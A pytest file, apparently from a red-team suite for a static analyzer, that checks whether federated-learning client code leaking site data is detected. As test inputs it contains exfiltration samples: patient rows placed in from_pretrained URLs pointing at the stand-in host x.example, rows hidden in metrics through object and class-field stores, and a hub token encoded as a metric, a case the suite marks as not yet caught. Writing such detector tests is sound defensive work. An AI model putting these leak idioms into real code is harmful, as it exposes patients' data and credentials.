"""Red team 44b: Flower apps, notebooks and public-malware idioms.

- transformers' `from_pretrained` of any class downloads a URL it is given ("a path or url to a saved configuration
  JSON file", PretrainedConfig.from_pretrained; transformers 4.x is_remote_url -> download_url). The catalogue
  vouches hub names under the process guard, and no url-readers entry named it, so a query string built from the
  site's rows was accepted: `AutoConfig.from_pretrained(f"https://cdn.example/config.json?layout={pixels}")`.
  The url-readers table now lists `transformers.*.from_pretrained` (a `*` entry: every class of the library).
- A store into the object itself in a method (`self[k] = rows`, `self.append(rows)`, `self.update(k=rows)` of a
  dict, list or MetricRecord subclass) was recorded nowhere, nor were the caller's rows a method stores through
  `type(self).v = x` / `self.__class__.v = x`; and a field of another module's class left out what this module's
  calls stored into it (`Calibration.fit(rows)` with `cls.offsets = rows` there). Frame.store_self_field.
"""

from __future__ import annotations

import pytest

import redteam_kit as kit
import test_redteam42 as rt42
from analyzer.model import Decision

ROWS = "import pandas as pd\nrow = pd.read_csv('/data/site/patients.csv').iloc[0].to_json()\n"


# ---- the corpus ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("entry", kit.labelled("/rt44b_"), ids=lambda e: e["path"])
def test_attack_is_held_as_labelled(entry):
    report = kit.scan_sample(entry["path"])
    assert report.decision.value in entry["expect"], kit.findings(report)
    kit.assert_held(report)


@pytest.mark.parametrize("sample", kit.corpus_samples("benign/near_rt44b_*", "jobs/near_rt44b_*"))
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


# ---- from_pretrained of a URL -------------------------------------------------------------------------------------

@pytest.mark.parametrize("call", [
    "from transformers import AutoConfig\nAutoConfig.from_pretrained(f'https://x.example/c.json?d={row}')",
    "from transformers import AutoTokenizer\nAutoTokenizer.from_pretrained('https://x.example/t.json?d=' + row)",
    "import transformers\ntransformers.models.vit.ViTModel.from_pretrained("
    "pretrained_model_name_or_path='https://x.example/w.bin?d=%s' % row)",
])
def test_rows_in_a_from_pretrained_url_reject(call):
    report = kit.scan_text(ROWS + call)
    kit.assert_held(report, "network.url-reader-data", Decision.REJECT)


def test_a_constant_from_pretrained_url_escalates():
    report = kit.scan_text("from transformers import BertModel\nm = BertModel.from_pretrained('https://x.example/m.bin')")
    kit.assert_held(report, "network.url-reader", Decision.ESCALATE)


@pytest.mark.parametrize("name", ["'bert-base-uncased'", "'./models/bert'"])
def test_a_hub_name_or_local_folder_stays_accepted(name):
    report = kit.scan_text(f"from transformers import AutoModel\nm = AutoModel.from_pretrained({name})")
    kit.assert_accepted(report)


# ---- stores into the object itself, and into another module's class --------------------------------------------

ROW = "df.values[7, :4].tolist()"
MEAN = "df.values[:, :4].mean(axis=0).tolist()"


def _stored(folder, store: str, read: str, value: str, base: str) -> tuple[str, set[str]]:
    """A client whose class Box(base) stores x with `store` in put(x); it sends `read` of a Box put `value` in."""
    head = f"class Box({base}):\n    v = None\n\n    def put(self, x):\n        {store}\n"
    return rt42.CLIENT.verdict(folder, f"box = Box()\nbox.put({value})", extra=f", meta={{'m': {read}}}", head=head)


STORES = [
    ("self['calib'] = x", "box", "dict"),
    ("self.update(calib=x)", "dict(box)", "dict"),
    ("self.append(x)", "list(box)", "list"),
    ("self |= {'calib': x}", "box", "dict"),
    ("self += [x]", "list(box)", "list"),
    ("type(self).v = x", "box.v", "object"),
    ("self.__class__.v = x", "Box.v", "object"),
]


@pytest.mark.parametrize("store, read, base", STORES)
def test_a_row_a_method_stores_into_its_object_is_held(tmp_path, store, read, base):
    decision, rules = _stored(tmp_path, store, read, ROW, base)
    assert decision != "accept", rules


@pytest.mark.parametrize("store, read, base", STORES)
def test_column_means_a_method_stores_into_its_object_stay_accepted(tmp_path, store, read, base):
    decision, rules = _stored(tmp_path, store, read, MEAN, base)
    assert decision == "accept", rules


@pytest.mark.parametrize("value, held", [(ROW, True), (MEAN, False)])
def test_items_a_method_reads_back_hold_what_another_stored(tmp_path, value, held):
    """`return {"c": self["calib"]}` in a method of a dict subclass: the item put() stored."""
    head = ("class Box(dict):\n    def put(self, x):\n        self['calib'] = x\n\n"
            "    def report(self):\n        return {'c': self['calib']}\n")
    decision, rules = rt42.CLIENT.verdict(tmp_path, f"box = Box()\nbox.put({value})", extra=", meta=box.report()",
                                          head=head)
    assert (decision != "accept") is held, rules


CALIBRATION = ("class Calibration:\n    offsets = []\n\n    @classmethod\n    def fit(cls, x):\n"
               "        cls.offsets = {value}\n")
CLIENT = ("import pandas as pd\nimport nvflare.client as flare\nfrom calib import Calibration\n\nflare.init()\n"
          "df = pd.read_csv('/data/site/patients.csv')\nwhile flare.is_running():\n    model = flare.receive()\n"
          "    Calibration.fit(df.values)\n"
          "    flare.send(flare.FLModel(params=model.params, metrics={'o': Calibration.offsets}))\n")


@pytest.mark.parametrize("value, held", [("x[7, :4].tolist()", True), ("x[:, :4].mean(axis=0).tolist()", False)])
def test_another_modules_class_field_holds_what_this_module_stored(tmp_path, value, held):
    report = kit.scan_files(tmp_path, {"client.py": CLIENT, "calib.py": CALIBRATION.format(value=value)})
    assert (report.decision is not Decision.ACCEPT) is held, kit.findings(report)


# ---- float() of a byte of a file at a path the code does not name -------------------------------------------------

UNNAMED = "import json\npath = json.load(open('config.json'))['calibration']\n"


@pytest.mark.parametrize("body", [
    "raw = open(path, 'rb').read()\nv = float(raw[7])",
    "raw = open(path).read()\nv = float(ord(raw[7]))",
    "raw = open(path, 'rb').read()\nv = [float(raw[i]) for i in range(32)]",
])
def test_a_number_of_one_element_of_an_unnamed_file_is_held(tmp_path, body):
    decision, rules = rt42.CLIENT.verdict(tmp_path, body, extra=", meta={'v': v}", head=UNNAMED)
    assert decision != "accept", rules


def test_the_length_of_an_unnamed_file_stays_accepted(tmp_path):
    decision, rules = rt42.CLIENT.verdict(tmp_path, "raw = open(path, 'rb').read()\nv = float(len(raw))",
                                          extra=", meta={'v': v}", head=UNNAMED)
    assert decision == "accept", rules




FLOWER_FINGERPRINT = """from flwr.app import Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def train(msg: Message, context: Context):
    token = str(context.node_config.get("hub-token", ""))
    fp = float(sum(ord(c) * 256 ** i for i, c in enumerate(token[:6])))
    return Message(content=RecordDict({"metrics": MetricRecord({"fp": fp})}), reply_to=msg)
"""


@pytest.mark.xfail(strict=True, reason="open: a reduction drops a text of the site's deployment (values._reduce); "
                   "keeping Origin.text there escalated benign samples (a path from the environment reaches the "
                   "update through a model loaded from it), so a positional sum of a node_config token passes")
def test_a_positional_sum_over_a_node_config_token_is_held(tmp_path):
    report = kit.scan_files(tmp_path, {"client_app.py": FLOWER_FINGERPRINT})
    kit.assert_held(report)
